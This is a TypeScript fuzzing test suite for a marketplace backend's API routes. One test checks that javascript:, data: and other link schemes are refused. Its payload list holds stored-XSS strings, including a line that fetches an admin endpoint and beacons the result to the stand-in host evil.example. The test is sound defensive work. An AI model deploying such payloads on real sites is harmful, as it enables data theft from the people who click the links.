  function urlOf(route: Route, input: Input) {
    let i = 0
    const path = route.path.replace(/:[a-z_]+/g, () => input.path[i++])
    return input.query ? `${path}?${input.query}` : path
  }

  async function send(route: Route, input: Input) {
    const url = urlOf(route, input)
    const headers: Record<string, string> = { ...route.as().headers }
    let data: any
    if (input.body?.form) {
      const fd = new FormData()
      fd.append("files", new Blob([input.body.form as any], { type: "image/png" }), "x.png")
      data = fd
    } else if (input.body) {
      headers["content-type"] = input.body.contentType ?? "application/json"
      if (input.body.encoding) headers["content-encoding"] = input.body.encoding
      data = input.body.raw ?? JSON.stringify(input.body.json)
    }
    return ctx.api.request({
      method: route.method,
      url,
      data,
      headers,
      validateStatus: () => true,
      maxBodyLength: Infinity,
      maxContentLength: Infinity,
      transformRequest: input.body?.form ? undefined : [(d: any) => d],
    })
  }

  const describeInput = (route: Route, input: Input) =>
    `${route.method} ${urlOf(route, input).slice(0, 300)} body=${input.body?.raw !== undefined ? `raw:${JSON.stringify(input.body.raw.slice(0, 200))}` : input.body?.form ? `form(${input.body.form.length} bytes)` : JSON.stringify(input.body?.json)?.slice(0, 400)}`

  /** Runs the route's property; returns a failure report (seed, path, counterexample) or null. */
  async function hammer(route: Route, runs = RUNS): Promise<string | null> {
    let sent = 0
    const statuses = new Map<number, number>()
    try {
      await fc.assert(
        fc.asyncProperty(inputOf(route), async (input) => {
          const before = await tableDigest(ctx)
          const res = await send(route, input)
          sent++
          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1)
          const what = compact(
            `${describeInput(route, input)} -> ${res.status} ${JSON.stringify(res.data)?.slice(0, 600)}`
          )
          if (process.env.HOSTILE_DEBUG) console.log(what.slice(0, 400))
          if (res.status >= 500) throw new Error(`5xx: ${what}`)
          if (res.status >= 400) {
            const message = res.data?.message
            if (
              typeof message !== "string" ||
              !message.trim() ||
              message.trim() === "[object Object]" ||
              INTERNAL.test(message)
            ) {
              throw new Error(`4xx without a readable message: ${what}`)
            }
            const after = await tableDigest(ctx)
            const changed = Object.keys(before).filter((t) => before[t] !== after[t])
            if (changed.length) throw new Error(`refused but wrote ${changed.join(", ")}: ${what}`)
          }
          if (({} as any).ocopPolluted !== undefined || Object.keys(Object.prototype).length) {
            throw new Error(`Object.prototype polluted: ${what}`)
          }
        }),
        { seed: SEED, numRuns: runs, examples: (route.examples?.() ?? []).map((e) => [e] as [Input]) }
      )
    } catch (e: any) {
      return `${route.method} ${route.path}: ${compact(`${e.message}\nCause: ${e.cause?.message ?? e.cause}`).slice(0, 4000)}`
    } finally {
      ;(route as any).stats = { sent, statuses: Object.fromEntries(statuses) }
    }
    // still answering, and the ledger still equals the showrooms' inventory levels
    const health = await settle(ctx.api.get("/health"))
    if (health.status !== 200)
      return `${route.method} ${route.path}: the backend stopped answering (health ${health.status})`
    const stock = await ledgerAndLevels(ctx)
    const off = Object.entries(stock).filter(([, v]) => v.ledger !== v.level || v.ledger < 0)
    if (off.length) return `${route.method} ${route.path}: ledger and inventory levels differ: ${JSON.stringify(off)}`
    return null
  }

  async function sweep(routes: Route[], runs = RUNS) {
    const failures: string[] = []
    for (const route of routes) {
      const noInput = route.method === "GET" && !route.params && !route.query
      const failure = await hammer(route, noInput ? Math.ceil(runs / 2) : runs)
      if (failure) failures.push(failure)
    }
    console.log(
      routes
        .map((r: any) => `${r.method} ${r.path}: ${r.stats.sent} requests ${JSON.stringify(r.stats.statuses)}`)
        .join("\n")
    )
    expect(failures, `seed ${SEED} (HOSTILE_SEED=${SEED} to replay)\n${failures.join("\n\n")}`).toEqual([])
  }

  it(`store routes take any input without a 5xx or a write (seed ${SEED})`, () => sweep(STORE), 600_000)
  it(
    `producer portal routes take any input without a 5xx or a partial write (seed ${SEED})`,
    () => sweep(PRODUCER),
    600_000
  )
  it(
    `showroom routes take any input without a 5xx, a partial write or a ledger drift (seed ${SEED})`,
    () => sweep(SHOWROOM),
    600_000
  )
  it(`admin/ocop routes take any input without a 5xx or a partial write (seed ${SEED})`, () => sweep(ADMIN), 600_000)

  /**
   * Links a producer types in are shown to others as links: the evidence
   * scan in the operator's review queue (an <a href> in Medusa Admin), the
   * tracking link on an order, listing images. A javascript:, data:, vbscript:
   * or file: "URL" there is stored script against whoever clicks it, so only
   * http(s) links are taken, whatever the case or leading spaces.
   */
  it(`only http(s) links are stored: script and other schemes are refused and write nothing (seed ${SEED})`, async () => {
    const scheme = fc.constantFrom(
      "javascript:",
      "JaVaScRiPt:",
      " javascript:",
      "\tjavascript:",
      "data:text/html,",
      "vbscript:",
      "file:///",
      "blob:https://x/"
    )
    const payload = fc.constantFrom(
      "alert(document.cookie)",
      "fetch('/admin/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))",
      "<script>alert(1)</script>",
      "etc/passwd"
    )
    const link = fc.tuple(scheme, payload).map(([s, p]) => s + p)
    const where: [string, string, (url: string) => unknown, () => { headers: Record<string, string> }][] = [
      [
        "POST",
        "/producer/certificates",
        (url) => ({ ...certificateBody(w.draftProduct), certificate_number: "HB-LINK-1", evidence_url: url }),
        producerA,
      ],
      [
        "POST",
        "/admin/ocop/certificates",
        (url) => ({
          ...certificateBody(ctx.productIdByHandle.get("fixture-none")!),
          certificate_number: "HB-LINK-2",
          producer_id: w.htx,
          product_name: "Mật ong",
          evidence_url: url,
        }),
        admin,
      ],
      [
        "POST",
        "/producer/products",
        (url) => ({
          title: "Mật ong",
          variants: [{ title: "Chai", sku: "MO-LINK-1", price: 1000, stock: 1 }],
          images: [url],
        }),
        producerA,
      ],
      [
        "POST",
        `/producer/products/${w.draftProduct}`,
        (url) => ({ images: ["https://example.com/a.png", url] }),
        producerA,
      ],
      [
        "POST",
        `/producer/orders/${w.delivered.id}/shipments`,
        (url) => ({ tracking_number: "GHN12345678", tracking_url: url }),
        producerA,
      ],
    ]
    const failures: string[] = []
    for (const [method, url, body, as] of where) {
      try {
        await fc.assert(
          fc.asyncProperty(link, async (bad) => {
            const before = await tableDigest(ctx)
            const res = await ctx.api.request({
              method,
              url,
              data: body(bad),
              headers: as().headers,
              validateStatus: () => true,
            })
            const what = `${method} ${url} ${JSON.stringify(body(bad)).slice(0, 300)} -> ${res.status} ${JSON.stringify(res.data).slice(0, 300)}`
            if (res.status !== 400 || typeof res.data?.message !== "string") throw new Error(`not refused: ${what}`)
            const after = await tableDigest(ctx)
            const changed = Object.keys(before).filter((t) => before[t] !== after[t])
            if (changed.length) throw new Error(`refused but wrote ${changed.join(", ")}: ${what}`)
          }),
          { seed: SEED, numRuns: 8, examples: [["javascript:alert(document.cookie)"]] }
        )
      } catch (e: any) {
        failures.push(`${method} ${url}: ${e.message}\nCause: ${e.cause?.message ?? e.cause}`)
      }
    }
    // an ordinary https link still goes through
    const ok = await ctx.api.post(
      "/producer/certificates",
      {
        ...certificateBody(w.draftProduct),
        certificate_number: "HB-LINK-3",
        evidence_url: "https://example.com/giay-chung-nhan.jpg",
      },
      producerA()
    )
    expect(ok.status).toBe(201)
    expect(failures, `seed ${SEED}\n${failures.join("\n\n")}`).toEqual([])
  }, 300_000)
}
